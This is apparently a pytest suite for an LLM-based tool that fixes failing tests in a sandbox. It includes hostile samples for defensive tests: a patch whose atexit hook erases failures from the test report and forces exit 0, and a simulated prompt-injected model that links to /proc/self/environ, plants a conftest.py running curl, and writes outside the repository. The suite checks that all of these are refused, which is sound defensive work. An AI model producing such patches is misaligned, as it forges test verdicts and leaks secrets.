"""`committee fix` end to end on fixture repositories with real bugs: the tests run in the sandbox, a scripted model
answers over real HTTP (the fake OpenAI-compatible server), and every accepted patch passes what failed without
breaking what passed."""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from benchmarks.fake_openai import FakeServer, Reply, fake_openai
from benchmarks.fix_fixtures import FIXTURES, OFF_BY_ONE_DIFF, fix_fixture, scripted_model, whole
from sandbox.repo import RepoSandbox
from solver.checkout import snapshot
from solver.fix import ANSWER_TOKENS, FixConfig
from solver.models import ModelClient, ModelConfig

pytestmark = pytest.mark.usefixtures("engine")


@pytest.fixture(scope="module")
def server() -> Iterator[FakeServer]:
    with fake_openai(scripted_model) as fake:
        yield fake


def clients(server: FakeServer) -> tuple[ModelClient, ModelClient]:
    return (ModelClient(ModelConfig("cheap", server.base_url), "cheap"),
            ModelClient(ModelConfig("strong", server.base_url), "strong"))  # fmt: skip


@pytest.mark.parametrize(
    ("name", "tier", "patches", "changed"),
    [
        ("off_by_one", "cheap", 1, ["windows.py"]),  # a unified diff
        ("wrong_exception", "cheap", 3, ["ports.py"]),  # the second round: a duplicate and a non-answer not run
        ("missing_edge_case", "cheap", 1, ["stats.py"]),  # one function, merged into its file
        ("two_files", "cheap", 2, ["cents.py", "invoice.py"]),  # the repair round; the test edits refused
        ("fix_breaks_other", "strong", 3, ["names.py"]),  # the obvious fix breaks a test; the strong model's not
    ],
)
def test_each_fixture_is_fixed_by_the_expected_tier(
    server: FakeServer, name: str, tier: str, patches: int, changed: list[str]
) -> None:
    result = fix_fixture(name, *clients(server), FixConfig(samples=5, spread=0))
    assert (result.status, result.tier, result.candidates) == ("fixed", tier, patches)
    assert sorted(result.changes) == changed
    # The accepted files, run again on their own: every test passes.
    files = {**snapshot(FIXTURES / name), **result.changes}
    sandbox = RepoSandbox()
    sandbox.start(files)
    after = sandbox.run(files, [])
    sandbox.close()
    assert after.failing == set() and after.passing >= set(result.failing_before)
    assert all(path in result.diff for path in changed)


def test_a_round_spread_over_the_suspects_finds_the_fix_in_the_function_shown_alone(server: FakeServer) -> None:
    """Every answer to the first prompt (normalize and sort_key shown together) changes normalize and breaks a
    test; shown sort_key alone, the cheap model fixes it there, and the strong model is never asked."""
    asked = len(server.requests)
    result = fix_fixture("fix_breaks_other", *clients(server), FixConfig(samples=5, spread=2))
    assert (result.status, result.tier) == ("fixed", "cheap")
    # room for a whole function, where the models' usual 768 tokens cut half the local models' answers
    assert {r["max_tokens"] for r in server.requests[asked:]} == {ANSWER_TOKENS}
    assert b"normalize(name).casefold()" in result.changes["names.py"]
    assert all(c.tier == "cheap" for c in result.calls)


def test_without_the_strong_model_the_hard_fixture_is_not_fixed(server: FakeServer) -> None:
    cheap, _ = clients(server)
    result = fix_fixture("fix_breaks_other", cheap, None, FixConfig(samples=5, spread=0))
    assert (result.status, result.changes, result.candidates) == ("not fixed", {}, 2)
    assert result.failing_before == ("tests.test_names::test_sorting_ignores_case",)


# The off-by-one bug kept, and pytest's JUnit report rewritten at exit with every failure taken out, then exit
# status 0: what a patch could do to pass when the host read that report.
FORGED_WINDOWS = whole(
    "windows.py",
    (FIXTURES / "off_by_one" / "windows.py").read_text()
    + """

import atexit, os, re


@atexit.register
def _all_passed():
    try:
        with open("/work/report.xml") as f:
            report = f.read()
        with open("/work/report.xml", "w") as f:
            f.write(re.sub(r"<failure.*?</failure>", "", report, flags=re.S))
    finally:
        os._exit(0)
""",
)


def test_a_patch_that_forges_its_verdict_is_refused_and_told_why() -> None:
    with fake_openai(lambda request: Reply([FORGED_WINDOWS] * request.get("n", 1))) as fake:
        cheap, _ = clients(fake)
        result = fix_fixture("off_by_one", cheap, None, FixConfig(samples=1, spread=0, repair_rounds=1))
        repair = fake.requests[-1]["messages"]
    assert (result.status, result.candidates) == ("not fixed", 1)
    assert "cannot be believed: pytest's session ended with status 1, but the process exited 0" in repair[-1]["content"]


def test_the_sandbox_copy_has_no_secrets_no_network_and_no_root(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("API_TOKEN", "s3cret")
    (tmp_path / "test_env.py").write_text(
        "import os, socket\n\n\n"
        "def test_isolated():\n"
        "    assert 's3cret' not in repr(os.environ)\n"
        "    assert os.getuid() != 0\n"
        "    try:\n"
        "        socket.create_connection(('1.1.1.1', 53), timeout=2)\n"
        "    except OSError:\n"
        "        return\n"
        "    raise AssertionError('network reachable')\n"
    )
    files = snapshot(tmp_path)
    sandbox = RepoSandbox()
    sandbox.start(files)
    run = sandbox.run(files, [])
    sandbox.close()
    assert run.outcomes == {"test_env::test_isolated": "passed"}, run.output


def git(cwd: Path, *args: str) -> str:
    return subprocess.run(["git", *args], cwd=cwd, check=True, capture_output=True, text=True).stdout.strip()


def test_cli_commits_on_a_branch_pushes_it_and_opens_a_pull_request(server: FakeServer, tmp_path: Path) -> None:
    repo, remote, bin_dir = tmp_path / "repo", tmp_path / "remote.git", tmp_path / "bin"
    shutil.copytree(FIXTURES / "off_by_one", repo)
    git(tmp_path, "init", "-q", "--bare", str(remote))
    git(repo, "init", "-q", "-b", "main")
    git(repo, "add", ".")
    git(repo, "-c", "user.name=t", "-c", "user.email=t@t", "commit", "-q", "-m", "buggy")
    git(repo, "remote", "add", "origin", str(remote))
    git(repo, "push", "-q", "origin", "main")
    # A stand-in for GitHub's CLI: records what it was asked and answers with a URL.
    bin_dir.mkdir()
    gh = bin_dir / "gh"
    gh.write_text(f"#!{sys.executable}\nimport json, sys\n"
                  f"json.dump(sys.argv[1:], open({str(tmp_path / 'gh.json')!r}, 'w'))\n"
                  "print('https://github.example/pr/1')\n")  # fmt: skip
    gh.chmod(0o755)
    summary = tmp_path / "summary.md"
    done = subprocess.run(
        ["committee", "fix", "--repo", str(repo), "--cheap", f"cheap@{server.base_url}", "--strong", "none",
         "--commit", "committee/fix-1", "--push", "origin", "--summary", str(summary), "--cache", str(tmp_path / "c")],
        env={**os.environ, "PATH": f"{bin_dir}:{os.environ['PATH']}"}, capture_output=True, text=True,
    )  # fmt: skip
    assert done.returncode == 0, done.stderr
    assert "+    return [sum(values[i : i + width]) for i in range(len(values) - width + 1)]" in done.stdout
    pushed = git(remote, "show", "committee/fix-1:windows.py")
    assert "len(values) - width + 1" in pushed
    assert git(remote, "log", "--format=%s", "-1", "committee/fix-1") == "Fix failing tests (pytest)"
    args = json.loads((tmp_path / "gh.json").read_text())
    assert args[:6] == ["pr", "create", "--head", "committee/fix-1", "--base", "main"]
    assert "committee fix: fixed" in Path(args[args.index("--body-file") + 1]).read_text()
    assert "pull request: https://github.example/pr/1" in done.stderr


def test_cli_exit_status_tells_not_fixed_and_infra_error_apart(server: FakeServer, tmp_path: Path) -> None:
    repo = tmp_path / "repo"
    shutil.copytree(FIXTURES / "fix_breaks_other", repo)
    base = ["committee", "fix", "--repo", str(repo), "--cheap", f"cheap@{server.base_url}", "--strong", "none",
            "--samples", "1", "--cache", str(tmp_path / "c")]  # fmt: skip
    not_fixed = subprocess.run(base, capture_output=True, text=True)
    assert not_fixed.returncode == 3, not_fixed.stderr
    assert "committee fix: not fixed" in not_fixed.stderr
    assert (repo / "names.py").read_text() == (FIXTURES / "fix_breaks_other" / "names.py").read_text()
    broken = subprocess.run([*base, "--test-cmd", "pytest --no-such-option"], capture_output=True, text=True)
    assert broken.returncode == 4, broken.stderr
    wrong = subprocess.run([*base, "--test-cmd", "make test"], capture_output=True, text=True)
    assert wrong.returncode == 1 and "must start with `pytest`" in wrong.stderr


def test_the_repository_dependencies_are_installed_in_a_derived_image(tmp_path: Path) -> None:
    (tmp_path / "requirements.txt").write_text("six==1.16.0\n")
    (tmp_path / "test_dep.py").write_text("import six\n\n\ndef test_dependency():\n    assert six.PY3\n")
    files = snapshot(tmp_path)
    sandbox = RepoSandbox()
    sandbox.start(files)
    run = sandbox.run(files, [])
    sandbox.close()
    assert run.outcomes == {"test_dep::test_dependency": "passed"}, run.output


MARK = "PWNED-c0mm1ttee"
FIXED_LINE = "    return [sum(values[i : i + width]) for i in range(len(values) - width + 1)]\n"


def hostile_model(request: dict[str, Any]) -> Reply:
    """A model steered by prompt injection: a symlink to the host's environment, edits to the CI and test
    configuration, and a right fix that also writes through the repository's link out of the tree."""
    symlink = ("```diff\ndiff --git a/leak b/leak\nnew file mode 120000\n--- /dev/null\n+++ b/leak\n"
               "@@ -0,0 +1 @@\n+/proc/self/environ\n```\n")  # fmt: skip
    config = ("```diff\n--- /dev/null\n+++ b/.github/workflows/x.yml\n@@ -0,0 +1 @@\n+on: push\n```\n"
              "FILE: conftest.py\n```python\nimport os\nos.system('curl x.test')\n```\n")  # fmt: skip
    through_link = OFF_BY_ONE_DIFF + "\nFILE: vendor/evil.py\n```python\nX = 1\n```\n"
    if request.get("temperature") == 0:
        return Reply([symlink])
    return Reply(([config, through_link] + ["no idea"] * request.get("n", 1))[: request.get("n", 1)])


def test_hostile_answers_change_nothing_on_the_host_and_no_secret_reaches_a_prompt(tmp_path: Path) -> None:
    repo, outside = tmp_path / "repo", tmp_path / "outside"
    shutil.copytree(FIXTURES / "off_by_one", repo)
    outside.mkdir()
    (repo / "vendor").symlink_to(outside)
    (repo / ".env").write_text(f"GH_TOKEN={MARK}\n")
    (repo / "tests" / "test_env.py").write_text("from pathlib import Path\n\n\ndef test_no_secret_here():\n"
                                                "    assert not Path('.env').exists()\n")  # fmt: skip
    with fake_openai(hostile_model) as server:
        done = subprocess.run(
            ["committee", "fix", "--repo", str(repo), "--cheap", f"cheap@{server.base_url}", "--strong", "none",
             "--cache", str(tmp_path / "c"), "--summary", str(tmp_path / "summary.md")],
            capture_output=True, text=True, env={**os.environ, "GH_TOKEN": MARK},
        )  # fmt: skip
    assert done.returncode == 1, done.stderr
    assert "refusing vendor/evil.py: vendor is a link" in done.stderr
    assert "not copied to the sandbox or shown to a model (secret-looking): .env" in done.stderr
    assert list(outside.iterdir()) == []
    assert (repo / "windows.py").read_text() == (FIXTURES / "off_by_one" / "windows.py").read_text()
    assert not (repo / "leak").exists() and not (repo / "conftest.py").exists()
    assert MARK not in json.dumps(server.requests)
    # The fix the sandbox accepted: windows.py and the harmless new file; no link, no configuration.
    assert FIXED_LINE in done.stdout and "leak" not in done.stdout and "conftest" not in done.stdout


def test_a_repair_prompt_too_long_for_the_cheap_context_goes_on_to_the_strong_model() -> None:
    """The cheap server refuses the repair round's longer prompt (as llama.cpp does past its context): the round
    gives no answer and the fix goes on to the strong model, instead of ending the run."""

    def model(request: dict[str, Any]) -> Reply:
        if request["model"] == "strong":
            return Reply([OFF_BY_ONE_DIFF])
        if len(request["messages"]) > 2:
            return Reply(status=400, error="Requested tokens (5121) exceed context window of 4096")
        return Reply([whole("windows.py", "def moving_sums(values, width):\n    return []\n")] * request.get("n", 1))

    with fake_openai(model) as server:
        result = fix_fixture("off_by_one", *clients(server), FixConfig(samples=2, repair_rounds=1))
    assert (result.status, result.tier) == ("fixed", "strong")
    assert sum(1 for r in server.requests if len(r["messages"]) > 2) == 1  # refused once, never retried


def test_failing_first_runs_the_failing_tests_then_the_whole_suite_only_for_a_patch_that_passes_them(
    server: FakeServer,
) -> None:
    files = snapshot(FIXTURES / "fix_breaks_other")
    failing = "tests.test_names::test_sorting_ignores_case"
    sandbox = RepoSandbox()
    sandbox.start(files)
    try:
        assert sandbox.run(files, [], select=[failing]).outcomes == {failing: "failed"}
        everything = {"tests.test_names::test_normalize_keeps_case": "passed", failing: "failed"}
        assert sandbox.run(files, [], select=["tests/test_names.py"]).outcomes == everything
        # A module of the repository's own named like our plugin is not the one pytest loads.
        shadow = {**files, "committee_plugin.py": b"def pytest_collection_modifyitems(items):\n    items[:] = []\n"}
        assert sandbox.run(shadow, [], select=[failing]).outcomes == {failing: "failed"}
    finally:
        sandbox.close()
    # The obvious fix passes the failing test but breaks another in the same file: the quick run already says so.
    result = fix_fixture("fix_breaks_other", *clients(server), FixConfig(samples=5, spread=0))
    assert result.status == "fixed" and (result.quick_runs, result.full_runs) == (3, 1)
    slow = fix_fixture("fix_breaks_other", *clients(server), FixConfig(samples=5, spread=0, failing_first=False))
    assert slow.changes == result.changes and (slow.quick_runs, slow.full_runs) == (0, 3)
